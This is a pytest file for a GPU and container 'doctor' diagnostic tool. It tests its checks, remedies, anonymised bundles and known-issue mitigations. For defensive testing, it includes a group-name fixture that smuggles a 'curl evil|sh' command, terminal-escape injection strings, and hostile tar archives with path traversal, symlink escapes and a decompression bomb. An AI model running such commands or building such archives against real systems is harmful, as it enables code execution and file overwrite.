"""Doctor: what it says, how it ends, how long it takes; the bundle; and the known issues that it reads."""

from __future__ import annotations

import inspect
import io
import os
import socket
import tarfile
import time
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from pathlib import Path

import pytest

from radeon_stack.catalog.platforms import load_platforms
from radeon_stack.catalog.versions import clauses, version, within
from radeon_stack.errors import Exit, MachineError, UsageError
from radeon_stack.host import engines
from radeon_stack.host.boxed import together
from radeon_stack.host.bundle import opened, pack
from radeon_stack.host.checks import CHECKS, State, examine
from radeon_stack.host.engines import require_engine
from radeon_stack.host.facts import Clock, gather
from radeon_stack.host.gpus import topology
from radeon_stack.host.known_issues import Setup, load_issues, met_by, mitigations
from radeon_stack.host.sysroot import OVERLAY, Sysroot
from tests.conftest import ROOT, Cli
from tests.shapes import folder_of
from tests.stages import ENGINE, R9700, RAPHAEL, RENDER, RX9060XT, STAGES, Stage, build
from tests.stuck import impossible, stuck


def states(stage: Stage, root: Path) -> dict[str, State]:
    return {check.code: finding.state for check, finding in examine(gather(Sysroot(build(stage, root)), root))}


def with_engine(name: str, **changes: object) -> Stage:
    stage = STAGES[name]
    return replace(stage, overlay={"engine": {**ENGINE, **changes}})


def podman(number: str) -> dict[str, object]:
    return {"Version": number, "ApiVersion": "1.41", "Components": [{"Name": "Podman Engine"}]}


def test_a_healthy_machine_is_green_and_exit_0(cli: Cli, tmp_path: Path) -> None:
    build(STAGES["r9700"], tmp_path)
    told = cli("doctor", "--sysroot", tmp_path, "--json")
    assert told.code == Exit.OK
    assert told.json["states"]["fail"] == told.json["states"]["warn"] == 0
    assert all(check["document"].startswith("docs/doctor.md#rs") for check in told.json["checks"])


def test_only_a_failure_is_exit_3_and_it_comes_with_a_command(cli: Cli, tmp_path: Path) -> None:
    broken = cli("doctor", "--sysroot", build(STAGES["no-driver"], tmp_path / "a"))
    assert broken.code == Exit.MACHINE and "sudo modprobe amdgpu" in broken.out
    assert broken.out.splitlines()[-1] == "not ready: RS102"
    warned = cli("doctor", "--sysroot", build(STAGES["no-permission"], tmp_path / "b"))
    assert warned.code == Exit.OK and "log out and in again" in warned.out
    assert warned.out.splitlines()[-1] == "ready, with warnings: RS106 RS108 RS109"


@pytest.mark.parametrize(
    ("changes", "code", "state"),
    [
        ({"why_not": "no container engine answers at x (no such file or directory)"}, "RS201", State.FAIL),
        ({"why_not": "no container engine answers at x (permission denied)"}, "RS201", State.FAIL),
        ({"version": {"Version": "19.03", "ApiVersion": "1.40"}}, "RS202", State.FAIL),
        ({"version": {"Version": "29.3", "ApiVersion": "1.54"}}, "RS202", State.OK),
        ({"buildkit": False}, "RS203", State.WARN),
        ({"info": {"SecurityOptions": ["name=rootless"]}}, "RS204", State.FAIL),
        ({"info": {"OperatingSystem": "Docker Desktop"}}, "RS204", State.FAIL),
        ({"version": podman("4.9.3"), "info": {"Rootless": True}}, "RS204", State.FAIL),
        ({"version": podman("5.4.2"), "info": {"Rootless": True}}, "RS204", State.OK),
        ({"version": podman("4.9.3"), "info": {}}, "RS204", State.OK),
        ({"info": {"Driver": "vfs"}}, "RS205", State.WARN),
        ({"info": {"DockerRootDir": "/d"}, "free": 30 << 30, "images": []}, "RS206", State.WARN),
        ({"images": []}, "RS401", State.WARN),
        ({"images": [{"name": "a", "kind": "train", "rocm": "7.1.1", "gfx": "gfx1100"}]}, "RS402", State.WARN),
    ],
)
def test_an_engine_is_judged_by_what_it_answers(
    tmp_path: Path, changes: dict[str, object], code: str, state: State
) -> None:
    assert states(with_engine("r9700", **changes), tmp_path)[code] is state


ABSENT = "no container engine answers at x (no such file or directory)"


@pytest.mark.parametrize(
    ("programs", "why_not", "remedy"),
    [
        ([], ABSENT, ["sudo apt-get update", "sudo apt-get install -y docker.io", "sudo systemctl start docker"]),
        (["dockerd"], ABSENT, ["sudo systemctl start docker"]),
        (["dockerd"], "no container engine answers at x (timed out)", ["sudo systemctl restart docker"]),
        (
            ["podman"],
            ABSENT,
            [
                "systemctl --user enable --now podman.socket",
                "export DOCKER_HOST=unix:///run/user/$(id -u)/podman/podman.sock",
            ],
        ),
    ],
)
def test_what_is_installed_is_started_and_what_is_not_is_installed_first(
    cli: Cli, tmp_path: Path, programs: list[str], why_not: str, remedy: list[str]
) -> None:
    stage = replace(STAGES["r9700"], overlay={"engine": {"why_not": why_not}, "programs": programs})
    told = cli("doctor", "--json", "--sysroot", build(stage, tmp_path))
    assert next(check["remedy"] for check in told.json["checks"] if check["code"] == "RS201") == remedy


@pytest.mark.parametrize("systemd", [True, False])
def test_docker_is_started_alike_by_doctors_word_and_by_that_of_a_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, systemd: bool
) -> None:
    user = {"uid": os.getuid(), "gid": os.getgid(), "groups": [], "name": "me"}
    engine = {"why_not": ABSENT}
    overlay = {"engine": engine, "programs": ["dockerd"], "systemd": systemd, "user": user}
    facts = gather(Sysroot(build(replace(STAGES["r9700"], overlay=overlay), tmp_path)), tmp_path)
    (command,) = next(finding.remedy for check, finding in examine(facts) if check.code == "RS201")
    monkeypatch.setenv("DOCKER_HOST", "unix:///none")
    monkeypatch.setattr(engines, "SYSTEMD", str(tmp_path if systemd else tmp_path / "none"))
    with pytest.raises(MachineError) as caught:
        require_engine()
    assert f"start Docker ({command})" in caught.value.remedy and ("systemctl" in command) is systemd


@pytest.mark.parametrize(
    ("name", "value", "code", "state"),
    [
        ("HSA_OVERRIDE_GFX_VERSION", "11.0.0", "RS112", State.FAIL),
        ("PYTORCH_HIP_ALLOC_CONF", "expandable_segments:True", "RS113", State.WARN),
        ("PYTORCH_NO_HIP_MEMORY_CACHING", "1", "RS113", State.WARN),
        ("ROCR_VISIBLE_DEVICES", "0", "RS115", State.OK),
    ],
)
def test_variables_that_hurt_are_told(tmp_path: Path, name: str, value: str, code: str, state: State) -> None:
    stage = replace(STAGES["r9700"], overlay={"engine": ENGINE, "environment": {name: value}})
    assert states(stage, tmp_path)[code] is state


def test_a_busy_card_at_a_tenth_of_its_clock_is_stuck(tmp_path: Path) -> None:
    pci = "/sys/bus/pci/devices/0000:05:00.0"
    speeds = "0: 41Mhz *\n1: 500Mhz\n2: 2350Mhz\n"
    files = {f"{pci}/pp_dpm_sclk": speeds, f"{pci}/gpu_busy_percent": "99\n"}
    facts = gather(Sysroot(build(replace(STAGES["r9700"], files=files), tmp_path / "a")), tmp_path)
    assert facts.clocks == {"0000:05:00.0": Clock(41, 2350, 99)}
    assert states(replace(STAGES["r9700"], files=files), tmp_path / "b")["RS114"] is State.WARN
    idle = files | {f"{pci}/gpu_busy_percent": "0\n"}
    assert states(replace(STAGES["r9700"], files=idle), tmp_path / "c")["RS114"] is State.OK


def test_a_driver_that_the_image_was_not_made_for_is_a_warning(tmp_path: Path) -> None:
    assert states(replace(STAGES["r9700"], driver="6.16.6"), tmp_path / "a")["RS103"] is State.OK
    assert states(replace(STAGES["r9700"], driver="6.18.4"), tmp_path / "b")["RS103"] is State.WARN
    assert states(replace(STAGES["r9700"], driver="6.19.14.31400000"), tmp_path / "c")["RS103"] is State.WARN


def test_three_cards_without_iommu_pt_are_told_how_to_add_it(cli: Cli, tmp_path: Path) -> None:
    told = cli("doctor", "--sysroot", build(STAGES["three-r9700"], tmp_path), "--json")
    (found,) = [check for check in told.json["checks"] if check["code"] == "RS117"]
    assert found["state"] == "warn" and "update-grub" in " ".join(found["remedy"])


def test_codes_are_of_one_form_each_is_there_once_and_says_how_it_judges() -> None:
    codes = [check.code for check in CHECKS]
    assert all(inspect.getdoc(check.evaluate) for check in CHECKS)
    assert codes == sorted(set(codes)) and all(len(code) == 5 and code.startswith("RS") for code in codes)


def test_a_probe_that_never_ends_is_left_behind_and_the_rest_is_told() -> None:
    began = time.monotonic()
    answers = together(
        {"stuck": lambda: time.sleep(600), "quick": lambda: 7, "broken": lambda: 1 / 0, "large": lambda: "x" * 300_000},
        seconds=0.5,
    )
    assert time.monotonic() - began < 2 and answers.late == {"stuck"}
    assert answers.found == {"quick": 7, "large": "x" * 300_000}
    assert answers.broken == {"broken": "ZeroDivisionError: division by zero"}


@pytest.mark.parametrize(
    ("file", "code"),
    [("sys/bus/pci/devices/0000:05:00.0/pp_dpm_sclk", "RS114"), ("proc/meminfo", "RS100")],
)
def test_a_file_whose_reader_not_even_a_kill_ends_is_told_and_not_waited_for(
    cli: Cli, tmp_path: Path, file: str, code: str
) -> None:
    if why := impossible():
        pytest.skip(why)
    build(STAGES["r9700"], tmp_path)
    (tmp_path / file).touch()
    with stuck(tmp_path / file):
        began = time.monotonic()
        told = cli("doctor", "--sysroot", tmp_path, "--json", timeout=60)
        assert time.monotonic() - began < 20  # two seconds are given to it; test machines are shared
    assert told.code == Exit.MACHINE
    assert [check["code"] for check in told.json["checks"] if check["state"] == "fail"] == [code]


def test_who_plans_a_run_does_not_wait_for_such_a_file_either(cli: Cli, tmp_path: Path) -> None:
    if why := impossible():
        pytest.skip(why)
    build(STAGES["r9700"], tmp_path)
    commands = ("gpus",), ("explain", "train-llama", "--preset", "demo", "--engine", "local")
    with stuck(tmp_path / "proc/meminfo"), ThreadPoolExecutor() as at_once:  # each gives it ten seconds
        for told in at_once.map(lambda words: cli(*words, "--sysroot", tmp_path, timeout=60), commands):
            assert told.code == Exit.MACHINE and "does not answer" in told.error


def test_an_engine_socket_that_accepts_and_says_nothing_is_not_waited_for(
    cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with socket.socket(socket.AF_UNIX) as dead:
        dead.bind(str(tmp_path / "engine.sock"))
        dead.listen(64)
        monkeypatch.setenv("DOCKER_HOST", f"unix://{tmp_path / 'engine.sock'}")
        began = time.monotonic()
        told = cli("doctor", "--json", timeout=60)
        assert time.monotonic() - began < 20
    (found,) = [check for check in told.json["checks"] if check["code"] == "RS201"]
    assert found["state"] == "fail" or "--engine local works" in found["evidence"]


def test_fix_shows_each_command_with_the_one_that_takes_it_back_and_dry_run_does_nothing(
    cli: Cli, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("DOCKER_HOST", f"unix://{tmp_path}/none.sock")
    told = cli("doctor", "--fix", "--dry-run")
    if "nothing that we would mend" not in told.out:
        assert "undo:" in told.out and told.code == Exit.OK
    asked = cli("doctor", "--fix")  # nobody is there to say yes
    assert "nothing" in asked.out + asked.err
    tree = cli("doctor", "--fix", "--sysroot", build(STAGES["no-driver"], tmp_path / "tree"))
    assert tree.code == Exit.MACHINE and "another machine" in tree.error


@pytest.mark.parametrize("name", sorted(STAGES))
def test_a_bundle_is_diagnosed_elsewhere_as_the_machine_itself(cli: Cli, tmp_path: Path, name: str) -> None:
    build(STAGES[name], tmp_path / "machine")
    here = cli("doctor", "--sysroot", tmp_path / "machine", "--json", "--bundle", tmp_path / "b.tar.gz")
    there = cli("doctor", "--sysroot", tmp_path / "b.tar.gz", "--json")
    assert there.code == here.code
    assert [(c["code"], c["state"]) for c in there.json["checks"]] == [
        (c["code"], c["state"]) for c in here.json["checks"]
    ]


def test_a_bundle_names_no_person_disk_host_or_serial(cli: Cli, tmp_path: Path) -> None:
    stage = replace(
        STAGES["two-r9700-and-igpu"],
        cmdline="BOOT_IMAGE=/vmlinuz root=UUID=1234-abcd cryptdevice=/dev/disk/by-id/serial77 iommu=pt hostname=lab7",
        files={"/etc/group": "render:x:992:me,alice\nalice:x:1001:\n"},
    )
    build(stage, tmp_path / "machine")
    cli("doctor", "--sysroot", tmp_path / "machine", "--bundle", tmp_path / "b.tar.gz")
    with tarfile.open(tmp_path / "b.tar.gz") as archive:
        texts = {m.name: (archive.extractfile(m) or io.BytesIO()).read().decode() for m in archive if m.isreg()}
    everything = "\n".join(texts.values())
    for secret in ("alice", "UUID", "serial77", "lab7", "cryptdevice", str(STAGES["r9700"].cards[0].unique_id)):
        assert secret not in everything, secret
    assert texts["proc/cmdline"] == "iommu=pt"
    assert "unique_id 1\n" in everything


RX6600 = replace(RX9060XT, version=100302, device=0x73FF, bus=0x0D, minor=131)
ROOTLESS = {"engine": {**ENGINE, "info": {"SecurityOptions": ["name=rootless"]}}}
MIXED = {
    "/dev/kfd": {"gid": RENDER, "mode": "666"},
    "/dev/dri/renderD128": {"gid": RENDER, "mode": "660"},
}
PODMAN = {
    "engine": {**ENGINE, "version": {"Version": "5.4.2", "Components": [{"Name": "Podman Engine"}]}, "images": []}
}


def with_environment(**environment: str) -> Stage:
    return replace(STAGES["r9700"], overlay={"engine": ENGINE, "environment": environment})


@pytest.mark.parametrize(
    ("stage", "code", "state", "says"),
    [
        (Stage((RAPHAEL,)), "RS110", State.SKIPPED, "only an integrated GPU (gfx1036)"),
        (Stage((R9700, RX6600)), "RS110", State.WARN, "gfx1032: in no release of ROCm"),
        (Stage((RX6600,)), "RS110", State.FAIL, "gfx1032: in no release"),
        (Stage((R9700, RX6600), overlay={"engine": {**ENGINE, "images": []}}), "RS401", State.WARN, "for gfx1201"),
        (Stage((replace(R9700, driver="vfio-pci"),), topology=False, module=False), "RS102", State.WARN, "virtual"),
        (Stage((replace(R9700, driver="radeon"),), topology=False, module=False), "RS102", State.WARN, "driver radeon"),
        (with_environment(HSA_OVERRIDE_GFX_VERSION="12.0.1"), "RS112", State.OK, "changes nothing"),
        (with_environment(HSA_OVERRIDE_GFX_VERSION="nonsense"), "RS112", State.FAIL, "another GPU"),
        (with_environment(PYTORCH_HIP_ALLOC_CONF="expandable_segments:False"), "RS113", State.OK, "no allocator"),
        (replace(STAGES["r9700"], overlay={**ROOTLESS, "nodes": MIXED}), "RS204", State.FAIL, "/dev/dri/renderD128"),
        (replace(STAGES["three-r9700"], cmdline="amd_iommu=off"), "RS117", State.OK, "with amd_iommu=off"),
        (replace(STAGES["r9700"], overlay=PODMAN), "RS203", State.OK, "builds rendered folders"),
        (replace(STAGES["r9700"], overlay=PODMAN), "RS401", State.WARN, "no train image for gfx1201"),
    ],
)
def test_a_real_machine_is_judged_as_it_is(tmp_path: Path, stage: Stage, code: str, state: State, says: str) -> None:
    tree = Sysroot(build(stage, tmp_path))
    finding = next(finding for check, finding in examine(gather(tree, tmp_path)) if check.code == code)
    assert finding.state is state and says in finding.evidence, finding


ROCKY = 'ID="rocky"\nID_LIKE="rhel centos fedora"\n'
NIXOS = "ID=nixos\n"
SOCKET_REMEDY = "export DOCKER_HOST=unix:///run/user/$(id -u)/podman/podman.sock"


@pytest.mark.parametrize(
    ("files", "overlay", "code", "remedy"),
    [
        ({"/etc/os-release": ROCKY}, {"why_not": ABSENT}, "RS201", ["sudo dnf install -y podman", SOCKET_REMEDY]),
        ({"/etc/os-release": NIXOS}, {"why_not": ABSENT}, "RS201", []),
        ({"/etc/group": "root:x:0:\n"}, None, "RS109", ["sudo groupadd --gid 992 radeon992"]),
        ({"/etc/group": "x;curl evil|sh;:x:992:\n"}, None, "RS109", ["sudo groupadd --gid 992 radeon992"]),
        ({"/etc/group": "docker:x:9:me\n"}, {"why_not": "at x (permission denied)"}, "RS201", ["newgrp docker"]),
        ({}, PODMAN["engine"], "RS401", ["podman build --tag radeon-stack/train:rocm7.1.1-gfx1201 ./context"]),
        ({}, {"why_not": "permission denied", "address": "unix:///run/podman/podman.sock"}, "RS201", [SOCKET_REMEDY]),
    ],
)
def test_a_remedy_is_one_that_works_there(
    cli: Cli, tmp_path: Path, files: dict[str, str], overlay: dict[str, object] | None, code: str, remedy: list[str]
) -> None:
    stage = replace(STAGES["no-permission"], files=files, overlay={"engine": overlay or {"why_not": ABSENT}})
    told = cli("doctor", "--json", "--sysroot", build(stage, tmp_path))
    found = next(check["remedy"] for check in told.json["checks"] if check["code"] == code)
    assert set(remedy) <= set(found) and (remedy or not found), found
    assert "evil" not in " ".join(found)


def test_who_pointed_us_to_another_engine_is_told_so_first(
    cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for told in (f"unix://{tmp_path}/none.sock", "ssh://somewhere", "garbage"):
        monkeypatch.setenv("DOCKER_HOST", told)
        found = cli("doctor", "--json").json["checks"]
        assert next(check["remedy"] for check in found if check["code"] == "RS201") == ["unset DOCKER_HOST"], told


def test_nothing_of_a_foreign_machine_drives_this_terminal(cli: Cli, tmp_path: Path) -> None:
    evil = "\x1b]0;owned\x07\u202e\ud800"
    engine = {**ENGINE, "version": {"Version": evil, "ApiVersion": evil}}
    stage = replace(
        STAGES["r9700"], driver="6\x1b[31m", overlay={"engine": engine, "environment": {"DOCKER_HOST": evil}}
    )
    told = cli("doctor", "-v", "--sysroot", build(stage, tmp_path))
    assert told.code in (Exit.OK, Exit.MACHINE) and not [c for c in told.out + told.err if ord(c) < 32 and c != "\n"]
    refused = cli("doctor", "--sysroot", "\x1b[31mnowhere")
    assert refused.code == Exit.USAGE and "\x1b" not in refused.err


def test_a_probe_that_breaks_is_no_green_doctor(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    def broken(sysroot: Sysroot) -> dict[str, object]:
        raise OverflowError("cannot convert")

    monkeypatch.setattr("radeon_stack.host.facts.from_files", broken)
    found = {check.code: finding for check, finding in examine(gather(Sysroot(tmp_path), tmp_path))}
    assert found["RS100"].state is State.FAIL and "OverflowError: cannot convert" in found["RS100"].evidence
    assert found["RS101"].state is State.SKIPPED


@pytest.mark.parametrize(
    "damage",
    [
        {"user": {"gid": "1e400"}},
        {"nodes": {"/dev/kfd": {"gid": 1e400}}},
        {"engine": {"version": {"Components": True}, "info": {"SecurityOptions": True}}},
        {"engine": {"version": [], "info": 3, "images": {"a": 1}}},
        {"environment": [1], "programs": 7, "late": "files", "packages_missing": {}},
    ],
)
def test_an_overlay_of_nonsense_is_read_as_far_as_it_goes(cli: Cli, tmp_path: Path, damage: dict[str, object]) -> None:
    tree = build(replace(STAGES["r9700"], overlay=damage), tmp_path)
    for command in ("doctor", "gpus"):
        told = cli(command, "--sysroot", tree)
        assert told.code in (Exit.OK, Exit.MACHINE) and "Traceback" not in told.err, told.err


def test_a_tree_is_a_folder_or_a_bundle_and_nothing_else(cli: Cli, tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "empty").mkdir()
    (tmp_path / "noise").write_bytes(b"\x1f\x8bno archive")
    for place in (tmp_path / "pipe", tmp_path / "empty", tmp_path / "noise", tmp_path / "none", ""):
        for command in ("doctor", "gpus"):
            told = cli(command, "--sysroot", place, timeout=20)
            assert (told.code == Exit.USAGE and "--sysroot" in told.error) or "is no bundle" in told.error, told.error


def test_a_bundle_replaces_nothing(cli: Cli, tmp_path: Path) -> None:
    precious = tmp_path / "precious"
    precious.write_text("kept")
    for name in (precious, tmp_path, tmp_path / "no" / "folder", ""):
        told = cli("doctor", "--sysroot", build(STAGES["r9700"], tmp_path / "m"), "--bundle", name)
        assert told.code == Exit.USAGE and "--bundle" in told.error
    assert precious.read_text() == "kept"


def test_words_of_fix_mean_nothing_without_it(cli: Cli) -> None:
    for words in (("--yes",), ("--dry-run",), ("--fix", "--json")):
        assert cli("doctor", *words).code == Exit.USAGE


def test_a_bundle_has_no_serial_of_a_variable_and_nothing_of_another_vendors_cdi(cli: Cli, tmp_path: Path) -> None:
    serial = f"GPU-{R9700.unique_id:016x}"
    other = '{"kind": "other.com/gpu", "devices": [{"name": "x", "containerEdits": {"env": ["TOKEN=hunter2"]}}]}'
    amd = (
        '{"kind": "amd.com/gpu", "devices": [{"name": "0", "containerEdits": {"mounts": [{"hostPath": "/home/alice"}],'
    )
    amd += ' "deviceNodes": [{"path": "/dev/kfd"}, {"path": "/dev/dri/renderD128"}]}}]}'
    stage = replace(
        STAGES["two-r9700-and-igpu"],
        files={"/etc/cdi/alice-laptop.json": amd, "/etc/cdi/other.json": other},
        overlay={"engine": ENGINE, "environment": {"ROCR_VISIBLE_DEVICES": serial}},
    )
    tree = build(stage, tmp_path / "machine")
    cli("doctor", "--sysroot", tree, "--bundle", tmp_path / "b.tar.gz")
    with tarfile.open(tmp_path / "b.tar.gz") as archive:
        names = archive.getnames()
        texts = "".join((archive.extractfile(m) or io.BytesIO()).read().decode() for m in archive if m.isreg())
    for secret in (serial[4:], "hunter2", "alice"):
        assert secret not in texts + " ".join(names), secret
    assert "etc/cdi/amd.json" in names
    with opened(str(tmp_path / "b.tar.gz")) as there:
        ids = [gpu.unique_id for gpu in topology(there).gpus[:2]]
        assert len(set(ids)) == 2
        facts = gather(there, tmp_path)
    assert facts.environment["ROCR_VISIBLE_DEVICES"] in {f"GPU-{number}" for number in (1, 2, 3)}
    assert [(device.name, device.plain) for device in facts.cdi] == [("0", False)]


def test_what_did_not_answer_is_in_the_bundle_too(tmp_path: Path) -> None:
    tree = Sysroot(build(STAGES["r9700"], tmp_path / "machine"))
    facts = replace(gather(tree, tmp_path), late=frozenset({"clocks"}), packages_missing=("torch",), buildkit=None)
    pack(facts, tree, tmp_path / "b.tar.gz")
    with opened(str(tmp_path / "b.tar.gz")) as there:
        again = gather(there, tmp_path)
    assert again.late == {"clocks"} and again.packages_missing == ("torch",) and again.buildkit is None


@pytest.mark.parametrize(
    "kind", ["up", "absolute", "link", "below a link", "twice", "bomb", "many", "garbage", "truncated"]
)
def test_a_hostile_bundle_is_an_error_and_writes_nothing_outside(tmp_path: Path, kind: str) -> None:
    place = tmp_path / "b.tar.gz"
    with tarfile.open(place, "w:gz") as archive:
        archive.addfile(tarfile.TarInfo(OVERLAY))  # whole but for what is hostile
        if kind in ("up", "absolute"):
            member = tarfile.TarInfo("../out" if kind == "up" else "/out-of-radeon-stack")
            archive.addfile(member, io.BytesIO())
        elif kind == "link":
            link = tarfile.TarInfo("proc")
            link.type, link.linkname = tarfile.SYMTYPE, str(tmp_path)
            archive.addfile(link)
        elif kind == "below a link":
            for name, target in (("here", "."), ("here/up", ".."), ("here/up/out", "")):
                link = tarfile.TarInfo(name)
                link.type, link.linkname = (tarfile.SYMTYPE, target) if target else (tarfile.REGTYPE, "")
                archive.addfile(link)
        elif kind == "twice":
            link = tarfile.TarInfo("proc")
            link.type, link.linkname = tarfile.SYMTYPE, "sys"
            archive.addfile(link)
            archive.addfile(tarfile.TarInfo("proc"))
        elif kind == "bomb":
            member = tarfile.TarInfo("big")
            member.size = 64 << 20
            archive.addfile(member, io.BytesIO(bytes(member.size)))
        elif kind == "many":
            for number in range(6000):
                archive.addfile(tarfile.TarInfo(f"f{number}"))
        else:
            archive.addfile(tarfile.TarInfo("proc/cmdline"))
    if kind == "garbage":
        place.write_bytes(b"\x1f\x8b" + b"no archive" * 50)
    if kind == "truncated":
        place.write_bytes(place.read_bytes()[:-30])
    try:
        with opened(str(place)) as tree:
            examine(gather(tree, tmp_path))
            assert kind in ("absolute",)  # its leading slash is dropped
    except UsageError as error:
        assert "bundle" in str(error)
    assert not (tmp_path / "out").exists() and not Path("/out-of-radeon-stack").exists()


def test_the_line_of_rocm_versions_is_kept_in_its_order() -> None:
    line = ["6.4.4", "7.0", "7.0.2", "7.1.1", "7.2", "7.2.4", "7.9", "7.13.0", "7.14", "7.14.1", "10.0", "10.2.0"]
    numbers = [version(text) for text in line]
    assert None not in numbers and numbers == sorted(numbers, key=lambda n: n or ())
    assert version("7.2") == version("7.2.0") and version("6.18.0-rc3-amd64") == (6, 18, 0, 0)
    assert within(">=7.2 <7.9", "7.14") is False and within(">=7.2 <7.9", "7.2.4") is True
    assert within("==7.2", "7.2.3") and not within("==7.2.1", "7.2.3") and not within("==7.1", "7.14")
    assert within(">=7.2", "unknown") is None
    with pytest.raises(ValueError, match="a range of versions"):
        clauses("7.2 or so")


@pytest.mark.parametrize(
    ("gfx", "gpus", "rocm", "has", "has_not"),
    [
        ("gfx1201", 2, "7.1.1", {"NCCL_P2P_DISABLE"}, {"NCCL_PROTO", "TORCH_ROCM_AOTRITON_ENABLE_EXPERIMENTAL"}),
        ("gfx1201", 2, "7.2.4", {"NCCL_P2P_DISABLE", "NCCL_PROTO", "ROCBLAS_USE_HIPBLASLT"}, set()),
        ("gfx1201", 1, "7.14", {"ROCBLAS_USE_HIPBLASLT"}, {"NCCL_P2P_DISABLE", "NCCL_PROTO"}),
        ("gfx1200", 1, "7.1.1", {"TORCH_ROCM_AOTRITON_ENABLE_EXPERIMENTAL"}, {"NCCL_PROTO", "ROCBLAS_USE_HIPBLASLT"}),
        ("gfx1100", 2, "7.14", set(), {"TORCH_BLAS_PREFER_HIPBLASLT", "NCCL_PROTO", "NCCL_P2P_DISABLE"}),
        ("gfx942", 8, "7.2.4", set(), {"NCCL_P2P_DISABLE", "NCCL_PROTO", "TORCH_BLAS_PREFER_HIPBLASLT"}),
    ],
)
def test_a_gfx_gets_the_environment_it_needs_and_no_other(
    gfx: str, gpus: int, rocm: str, has: set[str], has_not: set[str]
) -> None:
    asked = mitigations(Setup(frozenset({gfx}), gpus, rocm=rocm, kernel="6.14"))
    env = {name for mitigation in asked for name in mitigation.env}
    assert has <= env and not has_not & env


def test_an_issue_is_met_by_its_ranges_and_nothing_is_claimed_without_a_link() -> None:
    old = Setup(frozenset({"gfx1201"}), 1, rocm="7.1.1", kernel="6.14.0")
    new = Setup(frozenset({"gfx1201"}), 3, rocm="7.2.4", kernel="6.18.2")
    assert not {"RS-KI-001", "RS-KI-003", "RS-KI-010"} & {issue.id for issue in met_by(old)}
    assert {"RS-KI-001", "RS-KI-003", "RS-KI-004", "RS-KI-010"} <= {issue.id for issue in met_by(new)}
    assert not met_by(Setup(frozenset(), 0))
    assert all(
        issue.links and (issue.env or issue.setting or issue.handled or issue.consequence) for issue in load_issues()
    )
    with pytest.raises(UsageError, match="no known issue 'RS-KI-999'"):
        mitigations(new, ("RS-KI-999",))


@pytest.mark.parametrize(
    ("gfx", "rocm", "met"),
    [
        ("gfx1201", "7.2.4", {"RS-KI-030", "RS-KI-031", "RS-KI-033"}),
        ("gfx1201", "7.14", {"RS-KI-030", "RS-KI-033"}),
        ("gfx1151", "7.2.4", {"RS-KI-030", "RS-KI-031", "RS-KI-032"}),
        ("gfx1151", "7.12", {"RS-KI-030"}),
    ],
)
def test_a_fault_between_nodes_is_met_by_a_job_of_several_and_not_by_one_machine(
    gfx: str, rocm: str, met: set[str]
) -> None:
    of_nodes = tuple(issue for issue in load_issues() if issue.least_nodes > 1)
    job = Setup(frozenset({gfx}), 2, rocm=rocm, nodes=2)
    assert {issue.id for issue in met_by(job, of_nodes)} == met
    assert not met_by(replace(job, nodes=1), of_nodes)


@pytest.mark.parametrize(("rocm", "met"), [("7.14", True), ("7.14.0", True), ("7.14.1", False), ("7.1.1", False)])
def test_a_fault_of_7_14_0_is_one_of_the_images_that_are_named_7_14(rocm: str, met: bool) -> None:
    assert "7.14" in {platform.rocm for platform in load_platforms().values()}
    setup = Setup(frozenset({"gfx1201"}), 1, rocm=rocm)
    assert ("RS-KI-020" in {issue.id for issue in met_by(setup)}) is met


def test_mitigations_are_in_the_plan_with_their_reason_and_can_be_left_out(cli: Cli, tmp_path: Path) -> None:
    build(STAGES["three-r9700"], tmp_path / "tree")
    model = folder_of(tmp_path / "model", {}, {})
    words = ("explain", "train-llama", "--model", model, "--engine", "local", "--sysroot", tmp_path / "tree", "--json")
    more = ("--gpus", "0,1")
    told = cli(*words, *more)
    assert told.code == Exit.OK, told.err
    fields = told.json["fields"]
    assert ["NCCL_P2P_DISABLE", "1"] in fields["env"]["value"]
    assert fields["env"]["items"]["NCCL_P2P_DISABLE"].startswith("RS-KI-004: peer-to-peer")
    left_out = cli(*words, *more, "--without", "RS-KI-004").json["fields"]
    assert "NCCL_P2P_DISABLE" not in dict(left_out["env"]["value"])
    assert left_out["without"]["value"] == ["RS-KI-004"]
    idle = cli(*words, *more, "--without", "RS-KI-018").json["fields"]  # asks for no variable
    assert idle["without"]["value"] == []
    assert cli(*words, "--without", "RS-KI-4").code == Exit.USAGE


def test_the_page_that_findings_link_to_has_them_all() -> None:
    page = (ROOT / "docs" / "doctor.md").read_text()
    for code in [check.code for check in CHECKS] + [issue.id for issue in load_issues()]:
        assert f'<a id="{code.lower()}"></a>' in page, f"{code}: make docs"
